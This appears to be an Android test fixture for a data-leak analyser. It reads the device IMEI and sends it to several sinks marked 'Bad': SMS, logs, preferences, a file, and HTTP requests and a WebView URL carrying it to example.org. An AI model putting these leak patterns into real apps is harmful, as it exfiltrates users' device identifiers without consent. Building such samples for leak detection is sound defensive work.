package org.gdroid.samples.sinks;

import android.app.Activity;
import android.content.Context;
import android.content.SharedPreferences;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.util.Log;
import android.webkit.WebView;
import java.io.ByteArrayOutputStream;
import java.io.FileOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String imei = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
        SmsBad.run(imei);
        LogBad.run(imei);
        PreferencesBad.run(this, imei);
        WebViewBad.run(this, imei);
        try {
            FileBad.run(this, imei);
            UrlBad.run(imei);
            HttpBodyBad.run(imei);
            MemoryStreamOk.run(imei);
        } catch (IOException e) {
            Log.e("sample", "failed");
        }
    }
}

class SmsBad {
    static void run(String imei) {
        SmsManager.getDefault().sendTextMessage("+49 1234", null, imei, null, null);
    }
}

class LogBad {
    static void run(String imei) {
        Log.v("sample", imei);
        Log.w("sample", imei);
        Log.e("sample", imei, new Throwable());
    }
}

class PreferencesBad {
    static void run(Context context, String imei) {
        SharedPreferences preferences = context.getSharedPreferences("sample", 0);
        SharedPreferences.Editor editor = preferences.edit();
        editor.putString("id", imei);
        editor.apply();
    }
}

class WebViewBad {
    static void run(Context context, String imei) {
        new WebView(context).loadUrl("https://example.org/?id=" + imei);
    }
}

class FileBad {
    static void run(Context context, String imei) throws IOException {
        FileOutputStream file = context.openFileOutput("id.txt", Context.MODE_PRIVATE);
        file.write(imei.getBytes());
        file.close();
    }
}

class UrlBad {
    static void run(String imei) throws IOException {
        URL url = new URL("https://example.org/?id=" + imei);
        url.openConnection().connect();
    }
}

class HttpBodyBad {
    static void run(String imei) throws IOException {
        HttpURLConnection connection = (HttpURLConnection) new URL("https://example.org/").openConnection();
        OutputStream body = connection.getOutputStream();
        body.write(imei.getBytes());
        body.close();
    }
}

/** A stream into memory goes nowhere. */
class MemoryStreamOk {
    static void run(String imei) throws IOException {
        ByteArrayOutputStream memory = new ByteArrayOutputStream();
        memory.write(imei.getBytes());
        memory.close();
    }
}
